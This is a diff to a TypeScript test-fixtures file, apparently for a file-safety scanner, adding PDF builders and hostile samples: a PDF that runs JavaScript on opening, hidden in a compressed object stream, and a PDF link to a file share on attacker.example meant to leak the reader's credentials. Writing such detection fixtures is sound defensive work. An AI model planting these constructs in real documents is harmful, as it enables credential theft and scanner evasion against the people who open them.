@@ -174,3 +174,171 @@ export const EXECUTABLE = Buffer.concat([
 export const HTML_PAGE = Buffer.from(
   "<!doctype html><html><body><script>alert(1)</script></body></html>",
 );
+
+/** Part of a PDF body: text (written as latin1) or bytes. */
+type PdfPart = string | Buffer;
+
+const part = (value: PdfPart) =>
+  typeof value === "string" ? Buffer.from(value, "latin1") : value;
+
+/** A stream object's body: its dictionary (with /Length added) and its data. */
+export function pdfStream(dict: string, data: PdfPart): Buffer {
+  const bytes = part(data);
+  return Buffer.concat([
+    part(`<< ${dict} /Length ${bytes.length} >>\nstream\n`),
+    bytes,
+    part("\nendstream"),
+  ]);
+}
+
+/**
+ * A classic PDF (cross-reference table) of numbered objects. With `base`, an incremental update of
+ * that file: the objects are appended, with a new table whose /Prev is the base's.
+ */
+export function pdfFromObjects(
+  objects: [number, PdfPart][],
+  base?: Buffer,
+): Buffer {
+  const chunks = [base ?? part("%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")];
+  let length = chunks[0]!.length;
+  const push = (value: PdfPart) => {
+    const bytes = part(value);
+    chunks.push(bytes);
+    length += bytes.length;
+  };
+  const offsets: [number, number][] = [];
+  for (const [number, body] of objects) {
+    offsets.push([number, length]);
+    push(`${number} 0 obj\n`);
+    push(body);
+    push("\nendobj\n");
+  }
+  const xref = length;
+  let table = base ? "xref\n" : "xref\n0 1\n0000000000 65535 f \n";
+  for (const [number, offset] of offsets)
+    table += `${number} 1\n${String(offset).padStart(10, "0")} 00000 n \n`;
+  const size = Math.max(...objects.map(([number]) => number)) + 1;
+  const previous = base
+    ? ` /Prev ${/startxref\s+(\d+)\s+%%EOF\s*$/.exec(base.toString("latin1"))![1]}`
+    : "";
+  push(
+    `${table}trailer\n<< /Size ${size} /Root 1 0 R${previous} >>\nstartxref\n${xref}\n%%EOF\n`,
+  );
+  return Buffer.concat(chunks);
+}
+
+/** PNG "Up" predictor rows of `columns` bytes, as PDF writers encode with /Predictor 12. */
+function pngUpRows(data: Buffer, columns: number): Buffer {
+  const rows = Math.ceil(data.length / columns);
+  const padded = Buffer.alloc(rows * columns);
+  data.copy(padded);
+  const out = Buffer.alloc(rows * (columns + 1));
+  for (let row = 0; row < rows; row++) {
+    out[row * (columns + 1)] = 2;
+    for (let i = 0; i < columns; i++) {
+      const up = row > 0 ? padded[(row - 1) * columns + i]! : 0;
+      out[row * (columns + 1) + 1 + i] =
+        (padded[row * columns + i]! - up) & 0xff;
+    }
+  }
+  return out;
+}
+
+/**
+ * A PDF 1.5 as modern writers save it: the objects given as text (numbered from 1) packed in one
+ * deflated object stream, with a PNG predictor when `predictor` is set; objects given as bytes
+ * (streams, which cannot be packed) written out; a cross-reference stream pointing at all.
+ */
+export function pdfWithPackedObjects(
+  objects: PdfPart[],
+  predictor = true,
+): Buffer {
+  const packed = objects.flatMap((body, index) =>
+    typeof body === "string" ? [[index + 1, body] as const] : [],
+  );
+  let header = "";
+  let data = "";
+  for (const [number, body] of packed) {
+    header += `${number} ${data.length} `;
+    data += `${body}\n`;
+  }
+  const inflated = Buffer.from(header + data, "latin1");
+  const columns = 5;
+  const streamNumber = objects.length + 1;
+  const xrefNumber = objects.length + 2;
+  const objectStream = pdfStream(
+    `/Type /ObjStm /N ${packed.length} /First ${header.length} /Filter /FlateDecode` +
+      (predictor
+        ? ` /DecodeParms << /Predictor 12 /Columns ${columns} >>`
+        : ""),
+    zlib.deflateSync(predictor ? pngUpRows(inflated, columns) : inflated),
+  );
+  const chunks = [part("%PDF-1.5\n%\xe2\xe3\xcf\xd3\n")];
+  let length = chunks[0]!.length;
+  const entries = new Map<number, [number, number, number]>([
+    [0, [0, 0, 65535]],
+  ]);
+  const write = (number: number, body: Buffer) => {
+    entries.set(number, [1, length, 0]);
+    const bytes = Buffer.concat([
+      part(`${number} 0 obj\n`),
+      body,
+      part("\nendobj\n"),
+    ]);
+    chunks.push(bytes);
+    length += bytes.length;
+  };
+  objects.forEach((body, index) => {
+    if (typeof body !== "string") write(index + 1, body);
+  });
+  packed.forEach(([number], index) =>
+    entries.set(number, [2, streamNumber, index]),
+  );
+  write(streamNumber, objectStream);
+  const xrefOffset = length;
+  entries.set(xrefNumber, [1, xrefOffset, 0]);
+  const rows = Buffer.alloc((xrefNumber + 1) * 7);
+  for (let number = 0; number <= xrefNumber; number++) {
+    const [type, field, generation] = entries.get(number) ?? [0, 0, 0];
+    rows.writeUInt8(type, number * 7);
+    rows.writeUInt32BE(field, number * 7 + 1);
+    rows.writeUInt16BE(generation, number * 7 + 5);
+  }
+  write(
+    xrefNumber,
+    pdfStream(
+      `/Type /XRef /Size ${xrefNumber + 1} /W [1 4 2] /Root 1 0 R`,
+      rows,
+    ),
+  );
+  chunks.push(part(`startxref\n${xrefOffset}\n%%EOF\n`));
+  return Buffer.concat(chunks);
+}
+
+const CATALOG_PAGES = [
+  "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
+  "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Annots [5 0 R] >>",
+];
+
+/** A PDF 1.5 that runs a script on opening, packed in an object stream with a PNG predictor. */
+export function pdfWithPackedScript(): Buffer {
+  return pdfWithPackedObjects([
+    "<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
+    ...CATALOG_PAGES,
+    "<< /Type /Action /S /JavaScript /JS (app.alert(1)) >>",
+    "<< /Type /Annot /Subtype /Link /Rect [0 0 1 1] /Dest [3 0 R /Fit] >>",
+  ]);
+}
+
+/** A PDF whose link opens a file on a remote share (and leaks the reader's credentials to it). */
+export function pdfWithRemoteShareLink(): Buffer {
+  return pdfFromObjects([
+    [1, "<< /Type /Catalog /Pages 2 0 R >>"],
+    [2, CATALOG_PAGES[0]!],
+    [3, CATALOG_PAGES[1]!],
+    [
+      5,
+      "<< /Type /Annot /Subtype /Link /Rect [0 0 100 20] /A << /S /URI /URI (file://attacker.example/share/cv.docx) >> >>",
+    ],
+  ]);
+}
